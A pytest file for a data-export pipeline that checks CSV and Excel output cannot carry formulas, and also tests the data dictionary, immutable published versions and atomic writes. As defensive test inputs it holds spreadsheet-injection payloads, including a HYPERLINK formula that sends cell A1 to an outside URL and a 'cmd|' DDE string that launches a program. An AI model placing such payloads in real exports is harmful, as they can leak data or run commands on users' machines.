"""Files for analysts: no formulas out of documents, every column documented, versions that never change."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest

from pipeline.model.errors import UsageError
from pipeline.publish.dictionary import dictionary_markdown, dictionary_rows
from pipeline.publish.export import export_dataset
from pipeline.publish.parquet import publish_version, versions
from pipeline.publish.tabular import CELL_LIMIT, excel_text, neutral
from pipeline.store.database import Database, open_database
from pipeline.store.dataset import dataset_tables
from pipeline.store.documents import SourceFile, save
from pipeline.store.rows import DocumentRows

DOCS = Path(__file__).parents[2] / "docs" / "data-dictionary.md"
EVIL = '=HYPERLINK("http://example.org/?q="&A1,"ดูรายงาน")'


@pytest.fixture
def database(tmp_path: Path) -> Database:
    opened = open_database(str(tmp_path / "s.sqlite"))
    _add(opened, "a" * 64, EVIL)
    return opened


def _add(database: Database, document: str, organization: str) -> None:
    row = {
        "document": document, "source": f"{document[:1]}.pdf", "page_count": 1, "status": "ok", "organization": organization,
        "department": "  +66 2 000", "total_percent": -1.5,
    }  # fmt: skip
    rows = DocumentRows(document, f"{document[:1]}.pdf", "ok", 1, "x", "{}", (("documents", (row,)),))
    save(database, rows, SourceFile(f"/{document}", f"{document[:1]}.pdf", 1, 1.0, document), "p", "f", 0.0)


@pytest.mark.parametrize(
    "text", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r\n=1", " =1+1", "＝1+1", "|calc"]
)
def test_text_that_would_be_a_formula_is_made_harmless(text: str) -> None:
    assert str(neutral(text)).startswith("'")


@pytest.mark.parametrize("text", ["-5.50", "+3", "-1,200", "ร้อยละ 80 = ผ่าน", "5", "", "1=1"])
def test_figures_and_plain_text_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


def test_excel_gets_no_control_characters_and_no_cell_beyond_its_limit() -> None:
    assert excel_text("ก\ufffeข\uffff") == "กข"
    assert excel_text("ก\x0b\x00ข") == "กข"
    assert len(str(excel_text("ก" * (CELL_LIMIT + 5)))) == CELL_LIMIT


def test_no_export_carries_a_formula(database: Database, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    export_dataset(database, tmp_path / "out", "csv")
    export_dataset(database, tmp_path / "out", "xlsx")
    with (tmp_path / "out" / "documents.csv").open(encoding="utf-8-sig", newline="") as f:
        (row,) = csv.DictReader(f)
    assert row["organization"] == "'" + EVIL
    assert (row["department"], row["total_percent"], row["form"]) == ("'  +66 2 000", "-1.5", "")
    sheet = load_workbook(tmp_path / "out" / "chiwat.xlsx")["documents"]
    cells = {c.value: d for c, d in zip(*sheet.iter_rows(min_row=1, max_row=2), strict=True)}
    assert cells["organization"].value == "'" + EVIL
    assert cells["organization"].data_type == "s"
    assert cells["total_percent"].value == -1.5


def test_every_column_is_documented_in_both_languages() -> None:
    entries = dictionary_rows()
    assert len(entries) == sum(len(t.columns) for t in dataset_tables())
    assert all(e.thai.strip() and e.english.strip() for e in entries)
    assert DOCS.read_text(encoding="utf-8") == dictionary_markdown(), "regenerate docs/data-dictionary.md"


def test_a_version_is_immutable_and_only_a_change_makes_a_new_one(database: Database, tmp_path: Path) -> None:
    folder = tmp_path / "published"
    first = publish_version(database, folder)
    assert publish_version(database, folder) == first
    assert (folder / "latest").resolve() == first
    content = {p.name: p.read_bytes() for p in first.iterdir()}
    _add(database, "b" * 64, "เทศบาลตำบลตัวอย่าง")
    second = publish_version(database, folder)
    assert versions(folder) == (first, second)
    assert os.readlink(folder / "latest") == second.name
    assert {p.name: p.read_bytes() for p in first.iterdir()} == content
    assert not [p for p in folder.iterdir() if p.name.startswith(".")]
    assert not any(p.stat().st_mode & 0o222 for p in second.iterdir())


def test_the_same_dataset_published_elsewhere_is_the_same_version(database: Database, tmp_path: Path) -> None:
    assert publish_version(database, tmp_path / "a").name == publish_version(database, tmp_path / "b").name


def test_what_gets_its_name_is_on_the_disk_before_and_its_name_after(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    flushed: list[Path] = []
    named: list[tuple[Path, set[Path]]] = []
    fsync, rename, replace = os.fsync, os.rename, os.replace

    def flush(descriptor: int) -> None:
        flushed.append(Path(os.readlink(f"/proc/self/fd/{descriptor}")))
        fsync(descriptor)

    def name(real, source, target):  # type: ignore[no-untyped-def]
        inside = set(Path(source).rglob("*")) if Path(source).is_dir() and not Path(source).is_symlink() else set()
        if not Path(source).is_symlink():
            named.append((Path(target), {Path(source), *inside} - set(flushed)))
        real(source, target)

    monkeypatch.setattr(os, "fsync", flush)
    monkeypatch.setattr(os, "rename", lambda a, b: name(rename, a, b))
    monkeypatch.setattr(os, "replace", lambda a, b: name(replace, a, b))
    publish_version(database, tmp_path / "published")
    assert flushed[-1] == tmp_path / "published"
    export_dataset(database, tmp_path / "out", "csv")
    assert flushed[-1] == tmp_path / "out"
    assert len(named) > 5
    assert [(target, left) for target, left in named if left] == []


def test_a_full_disk_is_named_and_leaves_nothing_behind(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(_from: object, _to: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.replace", full)
    with pytest.raises(UsageError, match=r"out/chiwat\.xlsx: No space left"):
        export_dataset(database, tmp_path / "out", "xlsx")
    assert not list((tmp_path / "out").iterdir())
    with pytest.raises(UsageError, match=r"cannot publish into .*/published: No space left"):
        publish_version(database, tmp_path / "published")


def test_two_exports_at_once_share_no_draft(database: Database, tmp_path: Path) -> None:
    (tmp_path / ".chiwat.xlsx.repack").mkdir()  # what another one is writing
    export_dataset(database, tmp_path, "xlsx")
    assert (tmp_path / "chiwat.xlsx").is_file()
